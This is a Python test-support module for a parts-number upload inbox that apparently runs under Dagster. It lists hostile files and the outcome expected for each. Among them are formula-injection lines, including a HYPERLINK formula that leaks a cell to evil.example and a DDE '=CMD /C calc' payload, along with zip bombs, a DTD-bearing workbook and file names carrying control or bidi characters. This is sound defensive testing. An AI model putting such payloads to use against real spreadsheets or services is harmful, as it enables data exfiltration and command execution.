"""The hostile inbox's corpus: every bad file the issues name and the earlier tests dropped, one `Drop` each.

`HostileInbox` is the real inbox with one hostile habit added: a writer that comes back and appends to a
file while the sensor reads it (`RESUMES`), as a writer that paused for one tick would. `READ` lists the
files the sensor read, so a test can show an oversized one was refused from its size alone.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

from boeinghub_dagster.resources.inbox import InboxResource
from boeinghub_dagster_tests.support.hostile_files import dtd_xlsx, far_cell_xlsx, zip_bomb_xlsx
from boeinghub_dagster_tests.support.inbox_corpus import CASES

DAY_NS = 24 * 3600 * 10**9
FORMULAS = (
    b"BACB30LH3-4\nWF338109=K3\n=HYPERLINK(\"http://evil.example/?\"&A1)\n@SUM(A1)\n=CMD|' /C calc'!A0\n"
    b"=1+2\n+A1\n-2+3\n"
)
SAME = b"MS20470AD4-6\nNAS1149F0363P\n"
RESUMES: dict[str, bytes] = {}  # name -> what a writer appends while the sensor reads it
READ: list[str] = []  # names the sensor read


@dataclass(frozen=True)
class Drop:
    name: str | bytes  # bytes: a name that is not UTF-8
    make: object  # () -> bytes
    outcome: str  # accepted | duplicate | rejected
    why: str  # fragment of the reason (rejected, duplicate) or of the log line (accepted)
    stale: bool = False  # written two days ago

    @property
    def relative(self) -> str:
        return os.fsdecode(self.name)


def _too_many() -> bytes:
    return b"".join(f"PN-{i}\n".encode() for i in range(50_001))


ISSUE = [
    Drop("far-cell.xlsx", lambda: far_cell_xlsx("XFD1048576"), "rejected", "spans A1:XFD1048576, 17,179,869,184 cells"),
    Drop("far-cell-2000.xlsx", lambda: far_cell_xlsx("XFD2000"), "rejected", "spans A1:XFD2000, 32,768,000 cells"),
    Drop(
        "aborts-the-reader.xlsx",
        lambda: far_cell_xlsx("J900000"),
        "rejected",
        "needs more than the 256 MiB of memory allowed for one file (it asked for 275 MiB at once)",
    ),
    Drop("zip-bomb.xlsx", lambda: zip_bomb_xlsx(300), "rejected", "it unpacks to 300 MB, the limit is 256 MB"),
    Drop(
        "lying-zip-bomb.xlsx",
        lambda: zip_bomb_xlsx(50, True),
        "rejected",
        "the file is damaged (xl/worksheets/sheet1.xml:",
    ),
    Drop("dtd.xlsx", dtd_xlsx, "rejected", "its XML declares a DTD"),
    Drop("formulas.txt", lambda: FORMULAS, "accepted", "2 parts (2 new), 6 lines rejected"),
    Drop("same-content.txt", lambda: SAME, "accepted", "2 parts (2 new)"),
    Drop("d" * 240 + ".txt", lambda: SAME, "duplicate", "(same-content.txt)"),
    Drop("l" * 240 + ".txt", lambda: b"A1\n=1+2\n", "accepted", "1 parts (1 new), 1 lines rejected"),
    Drop("部" * 80 + ".txt", lambda: b"A2\nBAD|PART\n", "accepted", "1 parts (1 new), 1 lines rejected"),
    Drop("r" * 240 + ".pdf", lambda: b"%PDF-1.4", "rejected", "unsupported file type '.pdf'"),
    Drop("parts.csv", lambda: b"part_number\nA3\n", "accepted", "1 parts (1 new)"),  # after 10,000 earlier parts*.csv
    Drop("bad\nname.txt", lambda: b"A4\n", "rejected", "unsafe file name: it holds control character 0x0a"),
    Drop(b"bad\xffname.txt", lambda: b"A5\n", "rejected", "unsafe file name: it holds byte 0xff, which is not UTF-8"),
    Drop(
        "parts\u202egnp.txt", lambda: b"A6\n", "rejected", "unsafe file name: it holds the invisible character U+202E"
    ),
    Drop("esc\x1b[2Jclear.csv", lambda: b"A7\n", "rejected", "unsafe file name: it holds control character 0x1b"),
    Drop("publish/\x07bell.txt", lambda: b"A8\n", "rejected", "unsafe file name: it holds control character 0x07"),
    Drop("..txt", lambda: b"A9\n", "accepted", "1 parts (1 new)"),
    Drop("...csv", lambda: b"part_number\nA10\n", "accepted", "1 parts (1 new)"),
    Drop("-rf.txt", lambda: b"A11\n", "accepted", "1 parts (1 new)"),
    Drop("pipe|name.txt", lambda: b"A12\n", "accepted", "1 parts (1 new)"),
    Drop("publish/ready.txt", lambda: b"A13\n", "accepted", "1 parts (1 new)"),
    Drop(".txt", lambda: b"A14\n", "rejected", "abandoned upload", stale=True),
    Drop(".hidden.txt", lambda: b"A15\n", "rejected", "abandoned upload", stale=True),
    Drop("upload.txt.part", lambda: b"A16\n", "rejected", "abandoned upload", stale=True),
    Drop("half.txt", lambda: b"H1\nH2\n", "accepted", "4 parts (4 new)"),  # the writer comes back mid-read
    Drop(
        "huge-sparse.txt",
        lambda: b"",
        "rejected",
        "file too large: 4294967296 bytes, the limit is 20971520 bytes (refused from its size, unread)",
    ),
    Drop(
        "mixed.txt",
        lambda: b"A17\nBAD|PART\nA...B\nA17\n",
        "accepted",
        "1 parts (1 new), 2 lines rejected, 1 duplicates",
    ),
]
EARLIER = [Drop(n, m, "rejected", f) for n, m, f, env in CASES if not env] + [
    Drop("too-many.txt", _too_many, "rejected", "too many part numbers: 50001 part numbers, the limit is 50000"),
    Drop("link.txt", None, "rejected", "not a regular file: a symbolic link (to "),
    Drop("gone.txt", None, "rejected", "not a regular file: a symbolic link (to "),
    Drop("pipe.txt", None, "rejected", "not a regular file: a named pipe (FIFO)"),
    Drop("sock.txt", None, "rejected", "not a regular file: a socket"),
]


class HostileInbox(InboxResource):
    """The real inbox; a writer appends to a file in `RESUMES` while the sensor reads it, as a writer
    that paused for a tick would."""

    def read(self, file, limit):
        READ.append(file.name)
        return super().read(file, limit)

    def open_regular(self, file):
        fh = super().open_regular(file)
        rest = RESUMES.pop(file.name, None)
        return fh if rest is None else _WriterComesBack(fh, file.path, rest)


class _WriterComesBack:
    def __init__(self, fh, path: Path, rest: bytes):
        self.fh, self.path, self.rest = fh, path, rest

    def fileno(self) -> int:
        return self.fh.fileno()

    def read(self, n: int = -1) -> bytes:
        with open(self.path, "ab") as writer:
            writer.write(self.rest)
        return self.fh.read(n)

    def __enter__(self):
        return self

    def __exit__(self, *exc) -> None:
        self.fh.close()


def drop_file(inbox: Path, drop: Drop, mtime_ns: int) -> None:
    path = os.path.join(os.fsencode(inbox), os.fsencode(drop.name))
    with open(path, "wb") as fh:
        fh.write(drop.make())
    if drop.name == "huge-sparse.txt":
        os.truncate(path, 4 * 2**30)  # sparse: 4 GiB in no time and no disk
    os.utime(path, ns=(mtime_ns, mtime_ns))


def special_entries(inbox: Path, tmp: Path) -> None:
    (inbox / "link.txt").symlink_to(tmp / "passwd.txt")
    (tmp / "passwd.txt").write_bytes(b"BACB30LH3-4\n")
    (inbox / "gone.txt").symlink_to(tmp / "nowhere")
    os.mkfifo(inbox / "pipe.txt")  # no writer: opening it for reading would hang the sensor
    (inbox / "folder.txt").mkdir()
    (inbox / "folder.txt" / "inside.txt").write_bytes(b"A99\n")


def moved_entries(inbox: Path) -> dict[int, Path]:
    out = {}
    for sub in ("processed", "rejected"):
        for entry in os.scandir(inbox / sub):
            out[entry.inode()] = Path(entry.path)
    return out


FRESH = ".parts.xlsx.1a2b3c.part"  # a copy in progress: it waits, and says so
STAYS = {"processed", "rejected", "publish", "folder.txt", FRESH}  # the inbox's own folders; a folder stays by design


def left_in_inbox(inbox: Path) -> set[str]:
    return (set(os.listdir(inbox)) - STAYS) | {f"publish/{n}" for n in os.listdir(inbox / "publish")}


def table_cells(line: str) -> int:
    """Cells of a Markdown table row, honouring backslash escapes."""
    count, escaped = 0, False
    for ch in line:
        count += ch == "|" and not escaped
        escaped = ch == "\\" and not escaped
    return count - 1
